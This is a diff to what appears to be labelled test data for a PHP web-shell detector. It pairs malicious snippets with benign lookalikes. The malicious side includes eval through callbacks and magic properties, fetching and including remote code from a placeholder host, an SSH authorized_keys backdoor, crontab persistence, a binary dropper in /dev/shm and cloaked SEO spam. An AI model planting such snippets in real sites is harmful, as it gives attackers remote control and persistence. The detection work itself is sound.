@@ -80,6 +80,18 @@ SHELLS = {
     "hidden name's own answer": "$d = ''; foreach (['b', 'x'] as $l) { $d .= $l; } $e = $d('ZXhlYw=='); $e($_POST['q']);",
     "script made by a script": "foreach (glob('*.js') as $f) { $c = file_get_contents($f); file_put_contents($f, "
     '\'var s=document.createElement("script");s.src="https://s.example/x.js";\' . $c); }',
+    "magic property": f"class W {{ private $m = ['a' => '{EVALUATE}']; public function __get($n) {{ return $this->m[$n]; }} "
+    "function go($d) { $y = $this->a; return $y($d); } } (new W)->go($_COOKIE['t']);",
+    "reduced": f"array_reduce([$_POST['k']], function ($c, $i) {{ return {EVALUATE}($i); }});",
+    "sorted by a function of its own": f"usort($_POST['l'], function ($a, $b) {{ {RUN}($b); return 0; }});",
+    "request of a framework by its type": "function up(WP_REST_Request $r) { move_uploaded_file($f, ABSPATH . $r['path']); }",
+    "fetched, kept and run": "function t($c) { $n = tempnam('/tmp', 'a'); $h = fopen($n, 'w+'); fwrite($h, '<?php ' . $c); "
+    "include $n; } if ($x = file_get_contents('http://z.example/c')) { t($x); }",
+    "links for search engines": "ob_start(function ($b) { if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) "
+    "{ return str_replace('</body>', '<div style=\"display:none\"><a href=\"https://c.example\">x</a></div></body>', $b); } });",
+    "key of a login": "file_put_contents('/srv/www/.ssh/authorized_keys', 'ssh-rsa AAAA x', FILE_APPEND);",
+    "table of times": f"file_put_contents('/tmp/.c', 'x'); {EXECUTE}('crontab /tmp/.c');",
+    "program unpacked and started": f"file_put_contents('/dev/shm/k', base64_decode('f0VMRgIBAQ==')); {EXECUTE}('/dev/shm/k &');",
     "shell in words": f"{OPEN}(['sh', '-c', $_POST['c']], [], $p);",
 }
 HONEST = {
@@ -110,6 +122,12 @@ HONEST = {
     "loop with an end": "for ($i = 0; $i < 3; $i++) { copy('/srv/t/index.php', '/srv/www/' . $i . '/index.php'); }",
     "port of a server": "$s = fsockopen($_POST['smtp_host'], 25, $e, $m, 5);",
     "program put together in the open": f"{EVALUATE}('$a = array(' . '1, 2, 3, 4, 5, 6, 7' . ');');",
+    "scripts of statistics": "echo str_replace('</head>', '<script src=\"https://statistics.example/s.js\"></script></head>', $p);",
+    "uploaded under a name of its own": "move_uploaded_file($tmp, $folder . '/' . bin2hex(random_bytes(8)) . '.jpg');",
+    "own property": "class W { private $m = ['a' => 1]; public function __get($n) { return $this->m[$n]; } "
+    "function go() { return $this->a + 1; } } (new W)->go();",
+    "summed up": "echo array_reduce($_POST['n'], function ($c, $i) { return $c + (int) $i; }, 0);",
+    "own log": "file_put_contents('/srv/log/a.log', 'crontab was read', FILE_APPEND);",
     "theme of a site": "$t = $_GET['t'] ?? 'home'; if (!preg_match('/^[a-z]+$/', $t)) { exit; } include __DIR__ . '/' . $t;",
 }
 
